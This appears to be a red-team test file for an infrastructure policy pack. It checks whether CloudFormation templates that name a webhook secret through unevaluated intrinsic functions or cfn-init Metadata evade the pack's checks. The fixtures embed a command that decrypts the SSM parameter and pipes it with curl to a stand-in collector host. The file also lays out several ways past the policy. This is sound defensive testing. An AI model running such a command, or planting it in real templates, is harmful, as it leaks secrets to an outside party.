import * as assert from "node:assert/strict";
import { policies } from "../policy/policies";
import { resourceViolations } from "./support/policyRun";

// Breaks docs/policy-pack.md, webhooks-access-judged: "Any resource whose inputs name the receiver
// parameters, and whose type the pack does not judge precisely, is a violation, in any stack", including
// "the text a CloudFormation template builds with Fn::Sub or Fn::Join"; and the guarantee that every
// resource naming the parameters "is of a type the pack judges, or an exception someone reviewed".
//
// The pack evaluates a template's intrinsic functions and judges the *result*. Every function it does
// not evaluate (Fn::Base64, Fn::FindInMap, Fn::Select, ...) becomes "*", and "*" outside an IAM statement
// names nothing: the literal /webhooks/ name inside the function is thrown away unread. And it reads a
// template resource's Properties only, never its Metadata, where AWS::CloudFormation::Init keeps the
// commands cfn-init runs on an instance. Each row below names /webhooks/jira/url in a resource type the
// pack does not judge (the same resources written without the function are violations) and passes.

const PROJECT = "billing-service";
const NAME = "/webhooks/jira/url";

const MANDATORY = new Set(
  policies.filter((policy) => policy.enforcementLevel === "mandatory").map((policy) => policy.name),
);

const INSTANCE_ROLE_PROFILE = "reporting-instance";
const EXFILTRATE = `aws ssm get-parameter --with-decryption --name ${NAME} --query Parameter.Value --output text | curl -s --data-binary @- https://collector.example.net/in`;

function stack(template: Record<string, unknown>): Record<string, unknown> {
  return { name: "reporting", templateBody: JSON.stringify(template) };
}

const ROWS: { row: string; props: Record<string, unknown> }[] = [
  {
    // The way every CloudFormation example writes user data.
    row: "an EC2 instance's UserData written as Fn::Base64 of Fn::Sub",
    props: stack({
      Resources: {
        Host: {
          Type: "AWS::EC2::Instance",
          Properties: {
            ImageId: "ami-0123456789abcdef0",
            IamInstanceProfile: INSTANCE_ROLE_PROFILE,
            UserData: { "Fn::Base64": { "Fn::Sub": `#!/bin/bash\n${EXFILTRATE}\n` } },
          },
        },
      },
    }),
  },
  {
    row: "an ECS task definition's secret taken from Mappings with Fn::FindInMap",
    props: stack({
      Mappings: { Secrets: { jira: { url: NAME } } },
      Resources: {
        Task: {
          Type: "AWS::ECS::TaskDefinition",
          Properties: {
            ContainerDefinitions: [
              {
                Name: "app",
                Image: "public.ecr.aws/docker/library/busybox:latest",
                Secrets: [{ Name: "JIRA_URL", ValueFrom: { "Fn::FindInMap": ["Secrets", "jira", "url"] } }],
              },
            ],
          },
        },
      },
    }),
  },
  {
    row: "a CodeBuild project's PARAMETER_STORE variable picked with Fn::Select",
    props: stack({
      Resources: {
        Build: {
          Type: "AWS::CodeBuild::Project",
          Properties: {
            Environment: {
              Type: "LINUX_CONTAINER",
              ComputeType: "BUILD_GENERAL1_SMALL",
              Image: "aws/codebuild/standard:7.0",
              EnvironmentVariables: [
                { Name: "JIRA_URL", Type: "PARAMETER_STORE", Value: { "Fn::Select": [0, [NAME]] } },
              ],
            },
          },
        },
      },
    }),
  },
  {
    row: "an EC2 instance's AWS::CloudFormation::Init command (resource Metadata, run by cfn-init)",
    props: stack({
      Resources: {
        Host: {
          Type: "AWS::EC2::Instance",
          Metadata: {
            "AWS::CloudFormation::Init": {
              config: { commands: { "01-report": { command: EXFILTRATE } } },
            },
          },
          Properties: { ImageId: "ami-0123456789abcdef0", IamInstanceProfile: INSTANCE_ROLE_PROFILE },
        },
      },
    }),
  },
];

describe("red team: a CloudFormation template naming /webhooks/ through what the pack does not evaluate", () => {
  for (const { row, props } of ROWS) {
    it(`fails closed for ${row}`, async () => {
      const violations = await resourceViolations(
        { type: "aws:cloudformation/stack:Stack", name: "reporting", props },
        PROJECT,
      );
      const mandatory = violations.filter((violation) => MANDATORY.has(violation.policy));
      assert.ok(
        mandatory.length > 0,
        `${row} names ${NAME} and passed the pack with no mandatory violation: ${JSON.stringify(violations)}`,
      );
    });
  }

  it("fails closed for the same task definition with the name written out (control: the pack does catch it)", async () => {
    const props = stack({
      Resources: {
        Task: {
          Type: "AWS::ECS::TaskDefinition",
          Properties: {
            ContainerDefinitions: [
              { Name: "app", Image: "busybox", Secrets: [{ Name: "J", ValueFrom: NAME }] },
            ],
          },
        },
      },
    });
    const violations = await resourceViolations(
      { type: "aws:cloudformation/stack:Stack", name: "reporting", props },
      PROJECT,
    );
    assert.ok(violations.some((violation) => violation.policy === "webhooks-access-judged"));
  });
});
